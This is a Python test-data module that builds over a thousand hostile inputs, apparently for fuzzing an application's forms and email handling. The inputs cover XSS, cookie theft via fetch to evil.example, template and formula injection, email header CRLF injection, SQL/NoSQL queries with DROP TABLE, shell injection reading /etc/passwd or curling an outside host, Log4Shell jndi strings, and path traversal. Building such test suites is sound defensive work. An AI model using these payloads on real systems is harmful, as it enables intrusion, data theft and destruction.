"""
Answers that mean harm: over a thousand, by the program that each is meant to deceive.

Each family combines a few parts. Nothing is drawn by chance, so a value that does harm once does it
in every run. Hosts and addresses are of names that nobody can have (RFC 2606).
"""

from collections.abc import Iterable, Iterator
from itertools import chain, product, zip_longest

EVIL = "https://evil.example"

# What a script would do, short enough for a box for a name.
DEEDS = (
    "alert(1)",
    f"fetch('{EVIL}?'+document.cookie)",
)
HEADERS = (
    "Bcc: victim@example.org",
    "Cc: victim@example.org",
    "To: victim@example.org",
    "Reply-To: x@evil.example",
    "From: admin@wsrs.example",
    "Subject: You won",
    "Content-Type: text/html",
    "X-SES-CONFIGURATION-SET: x",
)
# Every way in which somebody may write the end of a line.
ENDS = (
    "\r\n", "\n", "\r", "\n\r", "%0d%0a", "%0D%0A", "%0a", "%E5%98%8A%E5%98%8D", "\\r\\n", "\\n",
    "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1e", "=0D=0A", "&#13;&#10;", "\u010a", "嘊嘍",
    "\r\n ", "\r\n\t", "\x00\r\n",
)  # fmt: skip


def each(pattern: str, *parts: Iterable[str]) -> Iterator[str]:
    """Yield *pattern* with every choice of one from each of the *parts* in place of its `@`s."""
    for chosen in product(*parts):
        pieces = pattern.split("@")
        assert len(pieces) == len(chosen) + 1
        yield pieces[0] + "".join(
            part + piece for part, piece in zip(chosen, pieces[1:], strict=True)
        )


def scripts() -> Iterator[str]:
    """Yield scripts, in every spelling of their tag."""
    yield from each(
        "@@@",
        ("<script>", "<SCRIPT>", "<ScRiPt\t>", "<script\n>", "<script/x>", "<<script>",
         "<\x00script>",
         "<script type=module>", "<svg><script>", "<script x='>'>"),
        DEEDS,
        ("</script>", "</script\n>"),
    )  # fmt: skip
    yield from each(
        "<script @=//evil.example/x.js@", ("src", "SRC", "xlink:href"), (">", "></script>")
    )


def ends_of_elements() -> Iterator[str]:
    """Yield ends of whatever a value may stand in, with something after them."""
    yield from each(
        "@@",
        ('"', "'", "`", '">', "'>", '"/>', "</textarea>", "</title>", "</style>", "</option>",
         "</datalist>", "</td></tr></table>", "</dd></dl>", "-->", "--!>", "]]>",
         "</main></body></html>"),
        ("<img src=x onerror=alert(1)>", " autofocus onfocus=alert(1) x=",
         f"<a href={EVIL}>Sign in</a>"),
    )  # fmt: skip


def handlers() -> Iterator[str]:
    """Yield elements that run a script when something happens to them."""
    yield from each(
        "<@ @=alert(1)>",
        ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x",
         "audio src=x",
         "x tabindex=1 id=x"),
        ("onerror", "onload", "onfocus", "ontoggle", "ONERROR", "onstart",
         "on\nerror"),
    )  # fmt: skip


def elements() -> Iterator[str]:
    """Yield elements that do harm without a script."""
    yield from (
        f"<iframe src={EVIL}>", "<iframe srcdoc='<script>alert(1)</script>'>",
        f"<base href={EVIL}>",
        f"<meta http-equiv=refresh content='0;url={EVIL}'>", "<meta charset=utf-7>",
        f"<object data={EVIL}>", f"<embed src={EVIL}>", f"<link rel=stylesheet href={EVIL}>",
        f"<link rel=prefetch href={EVIL}>", "<style>*{display:none}</style>",
        f"<style>@import '{EVIL}'</style>", f"<form action={EVIL}><input name=email>",
        "</form><form>",
        f"<button formaction={EVIL}>Send</button>", f"<input type=image src={EVIL}>",
        f"<img src={EVIL}/pixel.gif>", f"<img srcset={EVIL}>", f"<a href={EVIL}>x</a>",
        f"<a href={EVIL} target=_top>x</a>", f"<area href={EVIL}>", "<plaintext>", "<xmp>",
        "<listing>",
        "<noscript><p title='</noscript><img src=x>'>", "<template shadowrootmode=open><slot>",
        "<textarea>", "<title>", "<select><option>", "<dialog open>", "<fieldset disabled>",
        "<details open>",
        "<math><mtext><table><mglyph><style><img src=x>", f"<svg><use href='{EVIL}#x'>",
        f"<svg><image href={EVIL}>", "<svg><animate attributeName=href values=x>", "<!--",
        "<!-- x --!>",
        "<!DOCTYPE x>", "<![CDATA[", "<?xml version='1.0'?>", "<?php echo 1 ?>", "<!ENTITY x 'y'>",
        "<div style='position:fixed;inset:0'>", "<div id=email>", "<p contenteditable>",
        "<br/><hr/>",
        "<table><tr><td>", "</p></p></p>", "<portal src=x>", "<frameset><frame>",
        "<isindex action=x>",
        "<keygen name=email>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>",
    )  # fmt: skip


def encodings() -> Iterator[str]:
    """Yield markup that waits for somebody to decode it once too often."""
    yield from each(
        "@script@alert(1)@/script@",
        ("&lt;", "&LT;", "&#60;", "&#x3c;", "&#0000060", "%3C", "%253C", "\\u003c", "\\x3c", "\\74",
         "+ADw-", "＜", "‹", "\u02c2", "&amp;lt;", "&amp;#60;", "%u003c", "=3C", "\ufe64", "¼"),
        ("&gt;",),
        ("&lt;", "<"),
        (">",),
    )  # fmt: skip
    yield from each(
        "@onfocus@",
        ("&quot; ", "&#34; ", "&#x22; ", "&#39; ", "&apos; ", "%22 ", "\\u0022 ", "＂ ", "\u02ba "),
        ("=alert(1)", "&equals;alert&lpar;1&rpar;"),
    )


def templates() -> Iterator[str]:
    """Yield what a template engine, or Python's formatting, would work out."""
    yield from each(
        "@@@",
        ("{{ ", "{{- ", "{% print ", "{% set x = ", "{# ", "${", "#{", "<%= ", "[[${", "{0.", "%("),
        ("7*7", "program.contact", "''.__class__.__mro__[1]",
         "cycler.__init__.__globals__.os.popen('id').read()"),
        (" }}",),
    )  # fmt: skip
    yield from (
        "{% for x in range(999999) %}x{% endfor %}", "{% include '/etc/passwd' %}", "{% raw %}",
        "{% endblock %}{% block body %}", "{% extends 'x' %}", "{{ '<b>'|safe }}",
        "{%- endautoescape -%}",
        "%s%s%s%n", "%(password)s", "{coordinators}", "{contact.__class__}", "{0!r:>99999999}",
        "{}{}{}",
        "$CONTACT ${HOME}", "<#assign x='freemarker.template.utility.Execute'?new()>",
        "#set($x=7*7)$x",
        "*{T(java.lang.Runtime)}", "@{7*7}", "{{constructor.constructor('alert(1)')()}}",
        "{{{raw}}}",
        "{!xss}", "<%= system('id') %>", "[%7*7%]",
    )  # fmt: skip


FORMULAS = (
    f'HYPERLINK("{EVIL}?"&A1,"x")',
    f'WEBSERVICE("{EVIL}")',
    f'IMPORTXML("{EVIL}","//a")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def formulas() -> Iterator[str]:
    """Yield what a spreadsheet program would work out."""
    yield from (
        before + sign + formula
        for before, sign, formula in product(("", "\t"), SIGNS, FORMULAS[:2])
    )
    yield from (sign + formula for sign, formula in product(SIGNS, FORMULAS[2:]))
    yield from (sign + sign + "1" for sign in SIGNS)


def cells() -> Iterator[str]:
    """Yield what ends a cell or a row, so that a formula begins the next."""
    yield from (
        before + separator + sign + "1+1" + after
        for separator, sign, (before, after) in product(
            (",", ";", "\t", "|", "\r\n", "\n", "\x1f", '","', '";"', '"\r\n"'),
            ("=", "＠"),
            (("x", ""), ('"', '"')),
        )
    )
    yield from ('"', '""', '"""', 'x"', '"x', "'", "''=1+1", "\\\",=1+1", "sep=;", "_x003D_1+1",
    "_x000D_",
                "\ufeff=1+1", "\u200b=1+1", " =1+1", "\u00a0=1+1", "%=1+1")  # fmt: skip


def headers() -> Iterator[str]:
    """Yield headers of an email after every spelling of a line's end."""
    yield from (f"Robin{end}{header}" for end, header in product(ENDS, HEADERS[:2]))
    yield from (f"Robin\r\n{header}\r\n\r\n<h1>x</h1>" for header in HEADERS)


def encoded_words() -> Iterator[str]:
    """Yield headers as encoded words (RFC 2047), which some mail software decodes anywhere."""
    yield from each(
        "=?@?@?=",
        ("utf-8", "US-ASCII", "iso-8859-1", "utf-7", "utf-8*en"),
        ("Q?=0D=0ABcc:_victim=40example.org", "q?=0ABcc:_x=40evil.example=0A",
         "B?DQpCY2M6IHZpY3RpbUBleGFtcGxlLm9yZw==", "b?CgpCY2M6IHg=", "Q?x", "X?x"),
    )  # fmt: skip
    yield from each(
        "@=?utf-8?Q?=0D=0ABcc:_x?=@",
        ("Robin ", "\t", "=?utf-8?Q?x?= ", '"', "<"),
        ("", " Example", "@evil.example", ">"),
    )
    yield from (f"utf-8''Robin%0D%0A{header}" for header in HEADERS[:4])


def parts_of_emails() -> Iterator[str]:
    """Yield what would end an email or begin another part of it."""
    yield from (
        f"Robin{end}{line}"
        for end, line in product(
            ("\r\n", "\r\n\r\n", "\n"),
            ("--===============0123456789012345678==", "--===============0123456789012345678==--",
             "--", "-- ", ".", ".\r\nMAIL FROM:<x@evil.example>", ".\r\nQUIT",
             "From x@evil.example",
             "Content-Transfer-Encoding: base64\r\n\r\nPGgxPng8L2gxPg==", "begin 644 x.exe",
             'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x',
             "-----BEGIN PGP MESSAGE-----",
             "> Robin wrote:", "=\r\n=", "Reference:\r\n  0000-0002"),
        )
    )  # fmt: skip


def addresses() -> Iterator[str]:
    """Yield addresses that would be more than one, or lead elsewhere."""
    yield from (
        f"robin@example.org{more}"
        for more in (
            ",victim@example.org", ", victim@example.org", ";victim@example.org",
            " victim@example.org",
            "\r\nBcc: victim@example.org", "\nvictim@example.org", "%0ABcc:victim@example.org",
            ">,<victim@example.org", "\x00victim@example.org", "@evil.example", ".", "..", ":25",
            "(victim@example.org)", "?bcc=victim@example.org", "&bcc=victim@example.org", "\\n",
            "/x", "'",
            '"', "<script>", "{{7*7}}", "；victim@example.org", "，victim@example.org", "\u2028x",
        )
    )  # fmt: skip
    yield from (
        f"{local}@example.org"
        for local in (
            "<victim@example.org>robin", "Robin <victim", '"robin\r\nBcc: x"', '"robin, victim"',
            "robin,victim", "undisclosed: robin", "@a.example,@b.example:robin",
            "robin%victim.example",
            "victim.example!robin", "(x)robin", "robin\\", "=?utf-8?Q?=0D=0ABcc:_x?=",
            "=?utf-8?B?DQo=?=",
            "robin=?us-ascii?Q?x?=", "=cmd|'/C calc'!A0", "=1+1", "+1+1", "-1+1", "'--", "{{7*7}}",
            "${7*7}",
            "`id`", "$(id)", "|id", "*", "robin'--", "admin'#", "robin&bcc=x", "robin?subject=x",
            "<b>", "robin\u202e", "r\u043ebin", "ＲＯＢＩＮ", ".robin", "robin..x", "r" * 65,
            "\x00", "%00",
        )
    )  # fmt: skip
    yield from (
        f"robin@{domain}"
        for domain in (
            "[127.0.0.1]", "[IPv6:::1]", "localhost", "127.0.0.1", "169.254.169.254",
            "evil\u3002example",
            "exam\u200bple.org", "-evil.example", "evil-.example", "xn--0.example", "evil..example",
            "evil.example.", "=?utf-8?Q?x?=.example", "ex\u00adample.org", "еxample.org",
            "a" * 64 + ".example",
            "a." * 130 + "example", "evil.example\r\nBcc:x", "evil.example>", "evil.example,x",
            "ﷺ.example",
        )
    )  # fmt: skip


def invisible() -> Iterator[str]:
    """Yield signs that are not seen, or turn what stands beside them."""
    yield from each(
        "Robin @gnp.exe@ Example",
        ("\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c",
         "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\ufe0f",
         "\U000e0041", "\U000e007f", "\ufff9", "\u115f", "\u3164", "\u2800", "\u17b4", "\u206a"),
        ("", "\u202c"),
    )  # fmt: skip


def control() -> Iterator[str]:
    """Yield every control character, and what is none but is refused by some."""
    numbers = chain(
        range(0x20), range(0x7F, 0xA0), (0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF, 0xE000)
    )
    yield from (f"Robin{chr(number)}Example{chr(number)}<b>" for number in numbers)


def lines_of_logs() -> Iterator[str]:
    """Yield lines that would pass for our own, or steer whoever reads them."""
    yield from each(
        "Robin@@",
        ("\n", "\r\n", "\r", "\\n", "\u2028", "\x85", '"}\n', "\x1b[2K\r"),
        ('{"event": "letter sent", "final": true}', '{"event": "request broke"}',
         "[ERROR] Task timed out after 10.00 seconds", "REPORT RequestId: x Duration: 1 ms",
         "2026-10-06T17:30:00Z applications exported"),
    )  # fmt: skip
    yield from each(
        "\x1b@Robin",
        ("[2J", "]0;x\x07", "[31m", "[1;1H", "c", "]8;;https://evil.example\x07", "P", "[?25l"),
    )


def paths() -> Iterator[str]:
    """Yield names of files that are not ours to show."""
    yield from each(
        "@@",
        ("../" * 6, "..\\" * 6, "%2e%2e%2f" * 6, "%252e%252e/" * 4, "....//" * 5, "..%c0%af" * 4,
         "/", "file:///",
         "\\\\evil.example\\c$\\", "..;/" * 4),
        ("etc/passwd", "etc/passwd\x00.html", "proc/self/environ", "windows\\win.ini"),
    )  # fmt: skip


def queries() -> Iterator[str]:
    """Yield what would end a value in a query: of SQL, PartiQL, MongoDB, LDAP, XPath, DynamoDB."""
    yield from each(
        "@ @@",
        ("'", '"', "')", "\\'", "1", "x' AND '1'='1"),
        ("OR 1=1", "UNION SELECT NULL", "; DROP TABLE applications", "; DELETE FROM applications",
         "WAITFOR DELAY '0:0:9'"),
        ("--",),
    )  # fmt: skip
    yield from (
        '{"$gt": ""}', '{"$ne": null}', '{"$where": "sleep(9)"}', "[$ne]=1", "'; return true; //",
        "*)(uid=*))(|(uid=*", "*)(objectClass=*", "\\2a\\28", "' or '1'='1' or ''='", "'] | //*['",
        "attribute_exists(id)", ":before", "#state", "id = :id OR begins_with(id, '0')",
        "waiting#mentee#",
        "waiting#mentor#victim@example.org", "mentee#waiting", '{"S": "x"}', '{"NULL": true}',
        "SELECT * FROM \"applications\"", "'||'", "%' --", "/**/OR/**/1", "0x27", "CHAR(39)",
    )  # fmt: skip


def commands() -> Iterator[str]:
    """Yield what a shell or a logger would run or look up."""
    yield from each(
        "@@@",
        ("; ", "| ", "&& ", "$(", "`", "\n", "%0a", "' ; "),
        ("cat /etc/passwd", f"curl {EVIL}", "sleep 9"),
        ("", ")"),
    )
    yield from each(
        "@//evil.example/a}",
        ("${jndi:ldap:", "${jndi:rmi:", "${jndi:dns:", "${${lower:j}ndi:ldap:",
         "${${::-j}ndi:ldap:",
         "${env:X:-j}ndi:ldap:", "%24%7Bjndi:ldap:", "$${jndi:ldap:"),
    )  # fmt: skip


def json_texts() -> Iterator[str]:
    """Yield what would end a text of JSON, or means something else in it."""
    yield from (
        '"', '\\"', '\\\\"', '","role":"mentor', '"}', '"}]', '"},{"role":"mentor', '"],"x":["',
        "\\", "\\u0022",
        "\\u0000", "\\ud800", "\\udc00\\ud800", "NaN", "-Infinity", "1e999", "null", "true", "[]",
        "{}",
        "[" * 60, '{"a":' * 20, "__proto__", '{"__proto__":{"x":1}}', "constructor.prototype",
        "</script>",
        "<!--<script>", "\u2028", "//", "/*", "*/", "/**/", "'", "0x10", "+1", "1_000", "﻿{}",
        ")]}',",
        "#/full_name", "~0~1", "/a/b", '{"role":"mentor","role":"mentee"}',
        "!!python/object/apply:os.system",
        "O:8:\"stdClass\":0:{}", "rO0ABXNyABFqYXZh", "gASVCgAAAAAAAACMBXBvc2l4", "(lp0\nS'x'\n.",
    )  # fmt: skip


def schemes() -> Iterator[str]:
    """Yield links that are more than links."""
    yield from each(
        "@@",
        ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:",
         "javascript&colon;",
         "&#106;avascript:", "data:text/html,<script>", "data:text/html;base64,", "vbscript:",
         "blob:", "view-source:",
         "//evil.example/", "\\\\evil.example\\", "https:evil.example",
         "https://wsrs.example@evil.example/",
         "mailto:x?bcc=", "tel:*#06#", "ms-word:ofe|u|"),
        ("alert(1)", "//%0aalert(1)", "PHNjcmlwdD4="),
    )  # fmt: skip


def long_ones() -> Iterator[str]:
    """Yield what is long, or grows: words without end, heaps of accents, emptiness."""
    yield from (
        sign * times
        for sign, times in product(
            ("W", "<", "&", '"', "'", "\\", "=", "%", "{{", "e\u0301\u0302", "\u0310",
             "\U0001f468\u200d", "\u200b",
             "<b>", "٣", "ﷺ", "\U00020000", "x\n", "x ", "ß", "İ"),
            (101, 700),
        )
    )  # fmt: skip


def documents() -> Iterator[str]:
    """Yield what a reader of XML, of a workbook's or another office document's would follow."""
    yield from each(
        "@@",
        ("<!DOCTYPE x [<!ENTITY y SYSTEM '", "<!DOCTYPE x SYSTEM '", "<xi:include href='",
         "<?xml-stylesheet href='",
         "<c t='str'><f>", "</t></is></c><c><f>", "</si><si><t>",
         "<Relationship TargetMode='External' Target='"),
        ("file:///etc/passwd", EVIL, "1+1"),
    )  # fmt: skip
    yield from each("_x00@_", ("0D", "0A", "3C", "3D", "00", "5F"))
    yield from (
        "&y;",
        "&#0;",
        "&#xFFFF;",
        "]]>]]>",
        "<f>1+1</f>",
        "{DDEAUTO cmd calc}",
        "{ HYPERLINK x }",
    )


FAMILIES: dict[str, tuple[str, ...]] = {
    name: tuple(made())
    for name, made in {
        "script": scripts,
        "end of an element": ends_of_elements,
        "event handler": handlers,
        "element": elements,
        "encoding": encodings,
        "template": templates,
        "formula": formulas,
        "cell": cells,
        "header": headers,
        "encoded word": encoded_words,
        "part of an email": parts_of_emails,
        "address": addresses,
        "invisible": invisible,
        "control character": control,
        "line of a log": lines_of_logs,
        "path": paths,
        "query": queries,
        "command": commands,
        "JSON": json_texts,
        "link": schemes,
        "length": long_ones,
        "document": documents,
    }.items()
}
# In turns, so that any part of them has some of each family.
VALUES = tuple(
    dict.fromkeys(
        value for turn in zip_longest(*FAMILIES.values()) for value in turn if value is not None
    )
)
# One of each.
HOSTILE = {family: values[0] for family, values in FAMILIES.items()}
